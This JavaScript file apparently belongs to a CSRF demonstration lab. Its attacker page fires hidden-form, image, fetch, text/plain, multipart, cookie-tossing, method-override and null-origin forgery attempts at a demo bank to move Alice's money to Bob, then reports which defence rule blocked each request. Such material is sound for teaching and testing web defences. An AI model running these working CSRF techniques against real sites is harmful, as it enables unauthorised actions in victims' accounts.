// What an attacker's page does. Nothing here can read the bank: every verdict on the page comes from
// /verdict, the attacker's own server.

const bank = document.body.dataset.target;
const domain = document.body.dataset.domain;
const theft = { to: "bob", amount: "100", memo: "thank you" };
const PATIENCE = 15000;

const ALPHANUMERIC = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";

function random(length) {
  const bytes = crypto.getRandomValues(new Uint8Array(length));
  return Array.from(bytes, (byte) => ALPHANUMERIC[byte % ALPHANUMERIC.length]).join("");
}

function hiddenFrame(attributes) {
  const frame = document.createElement("iframe");
  Object.assign(frame, attributes);
  frame.hidden = true;
  document.body.append(frame);
  return frame;
}

function form(action, fields, enctype) {
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action, hidden: true });
  if (enctype) form.enctype = enctype;
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, { type: "hidden", name, value });
    form.append(input);
  }
  return form;
}

// A form that submits itself into a frame that nobody sees.
function submit(action, fields, enctype) {
  const name = "hidden-" + random(8);
  hiddenFrame({ name });
  const hidden = form(action, fields, enctype);
  hidden.target = name;
  document.body.append(hidden);
  hidden.submit();
}

// Does the page get this script or image?
function loads(element) {
  element.hidden = true;
  const loaded = new Promise((resolve) => {
    element.addEventListener("load", () => resolve(true));
    element.addEventListener("error", () => resolve(false));
  });
  document.body.append(element);
  return loaded;
}

// The answer is of no interest, and out of reach anyway.
function send(url, options) {
  fetch(url, { method: "POST", credentials: "include", ...options }).catch(() => {});
}

const ATTACKS = {
  form(at) {
    submit(at("/transfer/"), theft);
  },

  image(at) {
    for (const url of [at("/transfer/", theft), at("/accounts/logout/")]) new Image().src = url;
  },

  fetch(at) {
    send(at("/transfer/"), { mode: "no-cors", body: new URLSearchParams(theft) });
  },

  "text-plain"(at) {
    submit(at("/api/add-item/"), { '{"name": "stolen", "x": "': '"}' }, "text/plain");
  },

  multipart(at) {
    const body = new FormData();
    body.append("file", new Blob(["malware"]), "report.pdf");
    send(at("/upload/"), { mode: "no-cors", body });
  },

  "stolen-token"(at) {
    submit(at("/transfer/"), { ...theft, csrfmiddlewaretoken: random(64) });
  },

  async read(at) {
    const read = await Promise.all([
      loads(Object.assign(document.createElement("script"), { src: at("/api/me/") })),
      loads(Object.assign(new Image(), { src: at("/account/") })),
      fetch(at("/account/"), { mode: "no-cors", credentials: "include" }).then(() => true, () => false),
    ]);
    return { note: read.includes(true)
      ? "The browser gave this page an answer of the bank’s."
      : "Script, image and fetch failed alike: the browser kept every answer from this page." };
  },

  async "other-user"(at) {
    const response = await fetch("/token");
    const { token } = await response.json();
    submit(at("/transfer/"), { ...theft, csrfmiddlewaretoken: token });
  },

  "cookie-tossing"(at) {
    const known = random(32);
    // A host can't name itself as the domain of a cookie that is for itself alone.
    const scope = location.hostname === domain ? "Path=/" : `Path=/; Domain=${domain}`;
    document.cookie = `csrftoken=${known}; ${scope}`;
    const planted = document.cookie.includes(known);
    submit(at("/transfer/"), { ...theft, csrfmiddlewaretoken: known });
    return {
      note: planted
        ? "The browser took the planted cookie: cookie and token agree."
        : `The browser refused to plant the cookie: to it ${domain} is a top-level domain, for which nobody may set cookies.`,
      clean: () => { document.cookie = `csrftoken=; ${scope}; Max-Age=0`; },
    };
  },

  "method-override"(at) {
    hiddenFrame({ src: at("/transfer/", { ...theft, _method: "POST" }) });
    submit(at("/transfer/", { _method: "GET" }), { ...theft, _method: "GET" });
    send(at("/transfer/"), {
      headers: { "X-HTTP-Method-Override": "GET" },
      body: new URLSearchParams(theft),
    });
  },

  "null-origin"(at) {
    const inner = form(at("/transfer/"), theft).outerHTML;
    hiddenFrame({
      sandbox: "allow-forms allow-scripts",
      srcdoc: inner + "<script>document.forms[0].submit()</script>",
    });
  },
};

async function verdict(run) {
  const response = await fetch("/verdict?run=" + run);
  return response.json();
}

// Asks until the bank has answered so many requests of this run.
async function answered(run, requests) {
  const deadline = performance.now() + PATIENCE;
  for (;;) {
    const told = await verdict(run);
    if (told.answers.length >= requests || performance.now() > deadline) return told;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

function element(name, text, ...children) {
  const made = document.createElement(name);
  if (text) made.textContent = text;
  made.append(...children);
  return made;
}

function said(answer) {
  if (!answer.rule) return `Answered ${answer.status}. ${answer.meaning}`;
  return `Refused (${answer.status}) by rule ${answer.rule.number} of ${answer.rule.room}, ${answer.rule.name}. ${answer.reason}`;
}

function line(answer) {
  const cookies = answer.cookies.length ? answer.cookies.join(" and ") + " came along" : "no cookies came along";
  const line = element("li", "", element("code", `${answer.method} ${answer.path}`), " " + said(answer));
  if (answer.also) line.append(element("small", "Had that rule not been there: " + answer.also));
  line.append(element("small", `Sec-Fetch-Site: ${answer.fetch_site || "none sent"} · Origin: ${answer.origin || "none sent"} · ${cookies}`));
  line.dataset.status = answer.status;
  line.dataset.rule = answer.rule ? `${answer.rule.room} ${answer.rule.number}` : "";
  return line;
}

function show(card, told, before, requests, note) {
  const result = card.querySelector(".result");
  const robbed = told.balances.victim !== before.victim;
  const complete = told.answers.length >= requests;
  result.classList.toggle("lost", robbed || !complete);
  result.querySelector(".outcome").textContent = robbed
    ? `Alice has ${told.balances.victim} now: the attack succeeded.`
    : complete
      ? `The attack failed. Alice still has ${told.balances.victim}.`
      : "Not every request reached the bank: is it running, and may this page reach it?";
  const lines = told.answers.map(line);
  if (note) lines.unshift(element("li", note));
  result.querySelector(".answers").replaceChildren(...lines);
  result.hidden = false;
  document.getElementById("victim").textContent = told.balances.victim;
  document.getElementById("thief").textContent = told.balances.thief;
}

async function attack(card) {
  const { attack, requests } = card.dataset;
  const button = card.querySelector("button");
  const run = random(16);
  const at = (path, query = {}) => bank + path + "?" + new URLSearchParams({ ...query, attack, run });
  button.disabled = true;
  delete card.dataset.done;
  try {
    const { balances } = await verdict(run);
    const staged = await ATTACKS[attack](at);
    show(card, await answered(run, Number(requests)), balances, Number(requests), staged?.note);
    staged?.clean?.();
  } finally {
    button.disabled = false;
    card.dataset.done = run;
  }
}

const cards = [...document.querySelectorAll("[data-attack]")];
for (const card of cards) {
  card.querySelector("button").addEventListener("click", () => attack(card));
}

document.getElementById("all").addEventListener("click", async (event) => {
  event.target.disabled = true;
  for (const card of cards) await attack(card);
  event.target.disabled = false;
});
